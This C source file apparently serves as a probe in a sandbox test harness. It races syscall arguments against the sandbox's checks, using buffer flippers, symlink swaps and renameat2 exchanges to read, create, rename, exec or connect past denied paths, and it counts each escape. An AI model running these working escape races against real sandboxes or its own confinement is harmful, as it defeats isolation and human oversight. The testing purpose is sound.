/* toctou: race a syscall's path argument against the sandbox's check of it.
 *
 * One probe per mode; each makes ATTEMPTS tries and prints "successes=K attempts=N" on stdout
 * (plus, for the read modes, the first protected content it got: the harness looks for the
 * marker in the output). Paths of unequal length are padded with leading slashes so the flip is
 * a plain overwrite of one buffer. A probe is a racer (a flipper of the argument, or a thread that
 * swaps links and directories) and an attempt (one syscall and how to tell a win): race() runs
 * the tries and counts them.
 *
 *   toctou open-thread    ALLOWED DENIED N   a thread flips the buffer; main opens + reads it
 *   toctou open-clonevm   ALLOWED DENIED N   a second process made by clone(CLONE_VM) flips it
 *   toctou open-shared    ALLOWED DENIED N   a forked process flips a MAP_SHARED buffer
 *   toctou creat-thread   ALLOWED DENIED N   open(O_CREAT) of the flipping path; stops when
 *                                            DENIED exists
 *   toctou rename-thread  SRC ALLOWED DENIED N  rename(SRC, flipping dst), moved back when it
 *                                            landed on ALLOWED; stops when DENIED exists
 *   toctou exec-shared    ALLOWED DENIED N   a forked flipper, a MAP_SHARED path; each try
 *                                            forks a child that execs the path
 *   toctou symlink-swap   LINK ALLOWED DENIED N  a thread re-points the symlink LINK between
 *                                            two targets (symlink + rename); main opens LINK
 *   toctou exchange-swap  DIR LINK N          a thread swaps the directory DIR and the symlink
 *                                            LINK (-> a protected directory) with
 *                                            renameat2(RENAME_EXCHANGE); main opens DIR/secret:
 *                                            a resolved path is only as good as its directories
 *   toctou exchange-creat DIR LINK N         the same swap (LINK -> a write-protected directory);
 *                                            main creates DIR/new.txt; stops when the file
 *                                            appeared behind LINK's target
 *   toctou exchange-connect DIR LINK NAME N   the swap again (LINK -> the directory of a denied
 *                                            listener NAME); we listen on DIR/NAME ourselves and
 *                                            connect to DIR/NAME; a win is a peer outside DIR
 *   toctou exchange-exec  DIR LINK NAME N    the swap again (LINK -> a spawn-protected directory
 *                                            holding NAME, which exits 42); each try forks and
 *                                            execs DIR/NAME (DIR/NAME exits 0)
 *   toctou connect-thread ALLOWED DENIED N   a unix stream connect whose sun_path flips between
 *                                            two socket paths (ALLOWED is ours, drained by a
 *                                            thread); a win is a peer named DENIED
 *   toctou argv-shared    PROG ALLOWED DENIED TARGET N  each try forks a child that execs
 *                                            PROG with argv {PROG, ARG, TARGET} where ARG (a
 *                                            MAP_SHARED buffer) flips between ALLOWED and DENIED:
 *                                            the command line is the thing checked
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define PATH_BUF 1024

struct flip {
    char *buffer;            /* the syscall's argument */
    char first[PATH_BUF];    /* ALLOWED, padded */
    char second[PATH_BUF];   /* DENIED, padded */
    size_t length;
    atomic_int *stop;
    atomic_long *flips;
};

static void pad_to(char *out, const char *path, size_t length)
{
    size_t own = strlen(path);
    size_t pad = length - own;
    memset(out, '/', pad);
    memcpy(out + pad, path, own + 1);
}

static void prepare(struct flip *f, char *buffer, atomic_int *stop, atomic_long *flips,
                    const char *allowed, const char *denied)
{
    size_t a = strlen(allowed), d = strlen(denied);
    f->length = a > d ? a : d;
    if (f->length + 1 >= PATH_BUF) {
        fprintf(stderr, "toctou: path too long\n");
        exit(2);
    }
    pad_to(f->first, allowed, f->length);
    pad_to(f->second, denied, f->length);
    f->buffer = buffer;
    f->stop = stop;
    f->flips = flips;
    memcpy(buffer, f->first, f->length + 1);
}

/* Flip as fast as memory allows; no syscalls, so a tracer never stops this thread. */
static void flip_forever(struct flip *f)
{
    volatile char *b = f->buffer;
    while (!atomic_load_explicit(f->stop, memory_order_relaxed)) {
        for (size_t i = 0; i < f->length; i++)
            b[i] = f->second[i];
        for (int spin = 0; spin < 64; spin++)
            __asm__ volatile("pause");
        for (size_t i = 0; i < f->length; i++)
            b[i] = f->first[i];
        for (int spin = 0; spin < 64; spin++)
            __asm__ volatile("pause");
        atomic_fetch_add_explicit(f->flips, 1, memory_order_relaxed);
    }
}

static void *flip_thread(void *arg)
{
    flip_forever(arg);
    return NULL;
}

static int flip_clone_child(void *arg)
{
    flip_forever(arg);
    return 0;
}

static char allowed_content[256];

static void load_allowed(const char *path)
{
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        perror(path);
        exit(2);
    }
    ssize_t n = read(fd, allowed_content, sizeof allowed_content - 1);
    allowed_content[n > 0 ? n : 0] = 0;
    close(fd);
}

enum flipper_kind { FLIP_THREAD, FLIP_CLONEVM, FLIP_FORK };

struct flipper {
    enum flipper_kind kind;
    pthread_t thread;
    pid_t pid;
};

static void start_flipper(struct flipper *fl, enum flipper_kind kind, struct flip *f)
{
    fl->kind = kind;
    if (kind == FLIP_THREAD) {
        if (pthread_create(&fl->thread, NULL, flip_thread, f) != 0) {
            perror("pthread_create");
            exit(2);
        }
    } else if (kind == FLIP_CLONEVM) {
        size_t size = 1 << 16;
        char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (stack == MAP_FAILED) {
            perror("mmap");
            exit(2);
        }
        /* A separate process (own tgid) sharing our memory: freezing our thread group alone
         * would not stop it. */
        fl->pid = clone(flip_clone_child, stack + size, CLONE_VM | SIGCHLD, f);
        if (fl->pid < 0) {
            perror("clone(CLONE_VM)");
            exit(2);
        }
    } else {
        fl->pid = fork();
        if (fl->pid < 0) {
            perror("fork");
            exit(2);
        }
        if (fl->pid == 0) {
            flip_forever(f);
            _exit(0);
        }
    }
}

static void stop_flipper(struct flipper *fl, atomic_int *stop)
{
    atomic_store(stop, 1);
    if (fl->kind == FLIP_THREAD) {
        pthread_join(fl->thread, NULL);
    } else {
        waitpid(fl->pid, NULL, 0);
    }
}

/* The buffer and the stop flag live in a MAP_SHARED mapping: a forked flipper writes the
 * parent's (and every later child's) copy. */
struct shared {
    atomic_int stop;
    atomic_long flips;
    char buffer[PATH_BUF];
};

static void *new_shared(size_t size)
{
    void *s = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (s == MAP_FAILED) {
        perror("mmap");
        exit(2);
    }
    memset(s, 0, size);
    return s;
}

/* A shared buffer flipping between ALLOWED and DENIED (padded), described by ``f``. */
static struct shared *shared_flip(struct flip *f, const char *allowed, const char *denied)
{
    struct shared *s = new_shared(sizeof *s);
    prepare(f, s->buffer, &s->stop, &s->flips, allowed, denied);
    return s;
}

/* Start racing only once the flipper runs (else a fast loop ends before it starts). */
static void wait_for_flips(atomic_long *flips)
{
    while (atomic_load(flips) < 2)
        sched_yield();
}

/* --- the race loop: N tries of one attempt against a racer that changes what it names --- */

enum outcome {
    MISS,   /* the sandbox held (or the race was lost) */
    HIT,    /* an escape: count it and go on */
    WON,    /* an escape that ends the probe (the damage is done) */
    ABORT,  /* the try could not be made: stop, not counting it */
};

typedef enum outcome (*attempt_fn)(void *context);

struct tally {
    long successes, attempts;
};

static struct tally race(long n, attempt_fn attempt, void *context)
{
    struct tally t = {0, 0};
    while (t.attempts < n) {
        enum outcome got = attempt(context);
        if (got == ABORT)
            break;
        t.attempts++;
        if (got != MISS)
            t.successes++;
        if (got == WON)
            break;
    }
    return t;
}

static int report(struct tally t)
{
    printf("successes=%ld attempts=%ld\n", t.successes, t.attempts);
    fflush(stdout);
    return 0;
}

/* Race against a flipper of ``kind`` rewriting ``f``'s buffer. */
static int race_flipped(enum flipper_kind kind, struct flip *f, long n, attempt_fn attempt,
                        void *context)
{
    struct flipper fl;
    start_flipper(&fl, kind, f);
    wait_for_flips(f->flips);
    struct tally t = race(n, attempt, context);
    stop_flipper(&fl, f->stop);
    return report(t);
}

/* Race against a thread running ``racer(arg)`` until ``*stop``. */
static int race_threaded(void *(*racer)(void *), void *arg, atomic_int *stop, long n,
                         attempt_fn attempt, void *context)
{
    pthread_t thread;
    atomic_init(stop, 0);
    pthread_create(&thread, NULL, racer, arg);
    struct tally t = race(n, attempt, context);
    atomic_store(stop, 1);
    pthread_join(thread, NULL);
    return report(t);
}

/* --- attempts: one syscall each, and how to tell a win ---------------------------------- */

struct read_try {
    const char *path;
    int printed;
};

/* One open + read; a hit when it returned something other than the allowed file's content
 * (the first such content is printed: the harness looks for the marker). */
static enum outcome attempt_read(void *arg)
{
    struct read_try *r = arg;
    char got[256];
    int fd = open(r->path, O_RDONLY);
    if (fd < 0)
        return MISS;
    ssize_t n = read(fd, got, sizeof got - 1);
    close(fd);
    if (n <= 0)
        return MISS;
    got[n] = 0;
    if (strcmp(got, allowed_content) == 0)
        return MISS;
    if (!r->printed) {
        printf("got: %s", got);
        r->printed = 1;
    }
    return HIT;
}

struct creat_try {
    const char *path;
    const char *escaped;   /* exists once a create landed where it must not */
    const char *harmless;  /* what a harmless create made, removed after each try (or NULL) */
};

static enum outcome attempt_creat(void *arg)
{
    struct creat_try *c = arg;
    int fd = open(c->path, O_CREAT | O_WRONLY, 0644);
    if (fd >= 0)
        close(fd);
    if (access(c->escaped, F_OK) == 0)
        return WON;
    if (c->harmless)
        unlink(c->harmless);
    return MISS;
}

struct rename_try {
    const char *source, *path, *allowed, *denied;
};

/* rename(SOURCE, flipping path); moved back when it landed on ALLOWED. */
static enum outcome attempt_rename(void *arg)
{
    struct rename_try *r = arg;
    rename(r->source, r->path);
    if (access(r->denied, F_OK) == 0)
        return WON;
    if (access(r->allowed, F_OK) == 0 && rename(r->allowed, r->source) != 0) {
        perror("rename back");
        return ABORT;
    }
    return MISS;
}

/* fork + execv(path, argv) (stderr to /dev/null when ``quiet``) + wait: the child's status,
 * or -1 when fork failed. */
static int run_child(const char *path, char *const argv[], int quiet)
{
    pid_t pid = fork();
    if (pid < 0) {
        perror("fork");
        return -1;
    }
    if (pid == 0) {
        if (quiet)
            dup2(open("/dev/null", O_WRONLY), 2);
        execv(path, argv);
        _exit(127);
    }
    int status;
    waitpid(pid, &status, 0);
    return status;
}

struct exec_try {
    const char *path;
    char *arg0;
};

/* Exec the path in a child; a hit when it exits 42, which only the program that must not run
 * does (the allowed one exits 0). */
static enum outcome attempt_exec(void *arg)
{
    struct exec_try *e = arg;
    int status = run_child(e->path, (char *[]){e->arg0, NULL}, 0);
    if (status < 0)
        return ABORT;
    return WIFEXITED(status) && WEXITSTATUS(status) == 42 ? HIT : MISS;
}

struct argv_try {
    const char *program, *arg, *target;
};

/* Run PROGRAM ARG TARGET in a child; a win when TARGET is gone. */
static enum outcome attempt_argv(void *arg)
{
    struct argv_try *a = arg;
    char *argv[] = {(char *)a->program, (char *)a->arg, (char *)a->target, NULL};
    if (run_child(a->program, argv, 1) < 0)
        return ABORT;
    return access(a->target, F_OK) != 0 ? WON : MISS;
}

struct connect_try {
    const struct sockaddr_un *addr;
    const char *peer;      /* the peer that tells the outcome */
    int peer_is_escape;    /* 1: a peer named ``peer`` is an escape; 0: any other peer is */
};

static enum outcome attempt_connect(void *arg)
{
    struct connect_try *c = arg;
    enum outcome got = MISS;
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (connect(fd, (const struct sockaddr *)c->addr, sizeof *c->addr) == 0) {
        struct sockaddr_un peer;
        socklen_t len = sizeof peer;
        memset(&peer, 0, sizeof peer);
        if (getpeername(fd, (struct sockaddr *)&peer, &len) == 0 &&
            (strcmp(peer.sun_path, c->peer) == 0) == c->peer_is_escape)
            got = HIT;
    }
    close(fd);
    return got;
}

static void *drain(void *arg)
{
    int listener = *(int *)arg;
    for (;;) {
        int fd = accept(listener, NULL, NULL);
        if (fd < 0)
            return NULL;
        close(fd);
    }
}

/* Listen on ``own`` and accept (and drop) every connection on a thread; -1 on failure. */
static int listen_draining(const struct sockaddr_un *own, const char *what)
{
    static int listener;  /* read by the drain thread for the life of the probe */
    pthread_t drainer;
    listener = socket(AF_UNIX, SOCK_STREAM, 0);
    if (bind(listener, (const struct sockaddr *)own, sizeof *own) < 0 ||
        listen(listener, 128) < 0) {
        perror(what);
        return -1;
    }
    pthread_create(&drainer, NULL, drain, &listener);
    return 0;
}

/* --- the probes ------------------------------------------------------------------------- */

static int mode_open(enum flipper_kind kind, const char *allowed, const char *denied, long n)
{
    struct flip f;
    struct shared *s = shared_flip(&f, allowed, denied);
    struct read_try r = {.path = s->buffer};
    load_allowed(allowed);
    return race_flipped(kind, &f, n, attempt_read, &r);
}

static int mode_creat(const char *allowed, const char *denied, long n)
{
    struct flip f;
    struct shared *s = shared_flip(&f, allowed, denied);
    struct creat_try c = {.path = s->buffer, .escaped = denied, .harmless = allowed};
    return race_flipped(FLIP_THREAD, &f, n, attempt_creat, &c);
}

static int mode_rename(const char *source, const char *allowed, const char *denied, long n)
{
    struct flip f;
    struct shared *s = shared_flip(&f, allowed, denied);
    struct rename_try r = {.source = source, .path = s->buffer, .allowed = allowed,
                           .denied = denied};
    return race_flipped(FLIP_THREAD, &f, n, attempt_rename, &r);
}

/* Each try: fork a child that execs the flipping path (ALLOWED exits 0, DENIED exits 42). */
static int mode_exec(const char *allowed, const char *denied, long n)
{
    struct flip f;
    struct shared *s = shared_flip(&f, allowed, denied);
    struct exec_try e = {.path = s->buffer, .arg0 = "probe-exec"};
    return race_flipped(FLIP_FORK, &f, n, attempt_exec, &e);
}

/* sun_path is the flipping buffer: the sockaddr itself lives in shared memory. */
struct shared_addr {
    atomic_int stop;
    atomic_long flips;
    struct sockaddr_un addr;
};

static int mode_connect(const char *allowed, const char *denied, long n)
{
    struct shared_addr *s = new_shared(sizeof *s);
    struct flip f;
    struct sockaddr_un own = {.sun_family = AF_UNIX};
    struct connect_try c = {.addr = &s->addr, .peer = denied, .peer_is_escape = 1};
    if (strlen(allowed) >= sizeof own.sun_path || strlen(denied) >= sizeof own.sun_path) {
        fprintf(stderr, "toctou: bad socket paths\n");
        return 2;
    }
    strcpy(own.sun_path, allowed);
    unlink(allowed);
    if (listen_draining(&own, "bind/listen on the allowed socket") < 0)
        return 2;
    s->addr.sun_family = AF_UNIX;
    prepare(&f, s->addr.sun_path, &s->stop, &s->flips, allowed, denied);
    return race_flipped(FLIP_THREAD, &f, n, attempt_connect, &c);
}

static int mode_argv(const char *program, const char *allowed, const char *denied,
                     const char *target, long n)
{
    struct flip f;
    struct shared *s = shared_flip(&f, allowed, denied);
    struct argv_try a = {.program = program, .arg = s->buffer, .target = target};
    /* An argument cannot be padded with slashes like a path: the two must be equally long. */
    if (strlen(allowed) != strlen(denied)) {
        fprintf(stderr, "toctou: argv-shared needs arguments of equal length\n");
        return 2;
    }
    memcpy(f.first, allowed, strlen(allowed) + 1);
    memcpy(f.second, denied, strlen(denied) + 1);
    memcpy(s->buffer, allowed, strlen(allowed) + 1);
    return race_flipped(FLIP_FORK, &f, n, attempt_argv, &a);
}

struct swap {
    const char *link, *first, *second;
    char temp[PATH_BUF];
    atomic_int stop;
};

static void *swap_thread(void *arg)
{
    struct swap *w = arg;
    int which = 0;
    while (!atomic_load_explicit(&w->stop, memory_order_relaxed)) {
        unlink(w->temp);
        if (symlink(which ? w->second : w->first, w->temp) == 0)
            rename(w->temp, w->link);
        which = !which;
    }
    return NULL;
}

struct exchange {
    const char *first, *second;
    atomic_int stop;
};

static void *exchange_thread(void *arg)
{
    struct exchange *x = arg;
    while (!atomic_load_explicit(&x->stop, memory_order_relaxed))
        syscall(SYS_renameat2, AT_FDCWD, x->first, AT_FDCWD, x->second, 2 /* EXCHANGE */);
    return NULL;
}

static int mode_exchange(const char *dir, const char *link, long n)
{
    struct exchange x = {.first = dir, .second = link};
    char path[PATH_BUF];
    struct read_try r = {.path = path};
    snprintf(path, sizeof path, "%s/secret", dir);
    load_allowed(path);
    return race_threaded(exchange_thread, &x, &x.stop, n, attempt_read, &r);
}

static int mode_exchange_creat(const char *dir, const char *link, long n)
{
    struct exchange x = {.first = dir, .second = link};
    char path[PATH_BUF], target[PATH_BUF], escaped[PATH_BUF + 16];
    struct creat_try c = {.path = path, .escaped = escaped};
    ssize_t len = readlink(link, target, sizeof target - 1);
    if (len <= 0) {
        perror(link);
        return 2;
    }
    target[len] = 0;
    snprintf(path, sizeof path, "%s/new.txt", dir);
    snprintf(escaped, sizeof escaped, "%s/new.txt", target);
    return race_threaded(exchange_thread, &x, &x.stop, n, attempt_creat, &c);
}

static int mode_exchange_connect(const char *dir, const char *link, const char *name, long n)
{
    struct exchange x = {.first = dir, .second = link};
    struct sockaddr_un own = {.sun_family = AF_UNIX}, target = {.sun_family = AF_UNIX};
    struct connect_try c = {.addr = &target, .peer = own.sun_path, .peer_is_escape = 0};
    snprintf(own.sun_path, sizeof own.sun_path, "%s/%s", dir, name);
    memcpy(target.sun_path, own.sun_path, sizeof own.sun_path);
    if (listen_draining(&own, "bind/listen in DIR") < 0)
        return 2;
    return race_threaded(exchange_thread, &x, &x.stop, n, attempt_connect, &c);
}

static int mode_exchange_exec(const char *dir, const char *link, const char *name, long n)
{
    struct exchange x = {.first = dir, .second = link};
    char path[PATH_BUF];
    struct exec_try e = {.path = path, .arg0 = path};
    snprintf(path, sizeof path, "%s/%s", dir, name);
    return race_threaded(exchange_thread, &x, &x.stop, n, attempt_exec, &e);
}

static int mode_symlink_swap(const char *link, const char *allowed, const char *denied, long n)
{
    struct swap w = {.link = link, .first = allowed, .second = denied};
    struct read_try r = {.path = link};
    snprintf(w.temp, sizeof w.temp, "%s.tmp", link);
    load_allowed(allowed);
    unlink(link);
    if (symlink(allowed, link) != 0) {
        perror("symlink");
        return 2;
    }
    return race_threaded(swap_thread, &w, &w.stop, n, attempt_read, &r);
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) {
        fprintf(stderr, "usage: toctou MODE ARGS... (see the source)\n");
        return 2;
    }
    const char *mode = argv[1];
    if (argc == 5 && strncmp(mode, "open-", 5) == 0) {
        long n = atol(argv[4]);
        if (strcmp(mode, "open-thread") == 0)
            return mode_open(FLIP_THREAD, argv[2], argv[3], n);
        if (strcmp(mode, "open-clonevm") == 0)
            return mode_open(FLIP_CLONEVM, argv[2], argv[3], n);
        if (strcmp(mode, "open-shared") == 0)
            return mode_open(FLIP_FORK, argv[2], argv[3], n);
    }
    if (argc == 5 && strcmp(mode, "creat-thread") == 0)
        return mode_creat(argv[2], argv[3], atol(argv[4]));
    if (argc == 6 && strcmp(mode, "rename-thread") == 0)
        return mode_rename(argv[2], argv[3], argv[4], atol(argv[5]));
    if (argc == 5 && strcmp(mode, "exec-shared") == 0)
        return mode_exec(argv[2], argv[3], atol(argv[4]));
    if (argc == 5 && strcmp(mode, "exchange-swap") == 0)
        return mode_exchange(argv[2], argv[3], atol(argv[4]));
    if (argc == 5 && strcmp(mode, "exchange-creat") == 0)
        return mode_exchange_creat(argv[2], argv[3], atol(argv[4]));
    if (argc == 6 && strcmp(mode, "exchange-connect") == 0)
        return mode_exchange_connect(argv[2], argv[3], argv[4], atol(argv[5]));
    if (argc == 6 && strcmp(mode, "exchange-exec") == 0)
        return mode_exchange_exec(argv[2], argv[3], argv[4], atol(argv[5]));
    if (argc == 5 && strcmp(mode, "connect-thread") == 0)
        return mode_connect(argv[2], argv[3], atol(argv[4]));
    if (argc == 7 && strcmp(mode, "argv-shared") == 0)
        return mode_argv(argv[2], argv[3], argv[4], argv[5], atol(argv[6]));
    if (argc == 6 && strcmp(mode, "symlink-swap") == 0)
        return mode_symlink_swap(argv[2], argv[3], argv[4], atol(argv[5]));
    fprintf(stderr, "toctou: bad mode or arguments\n");
    return 2;
}
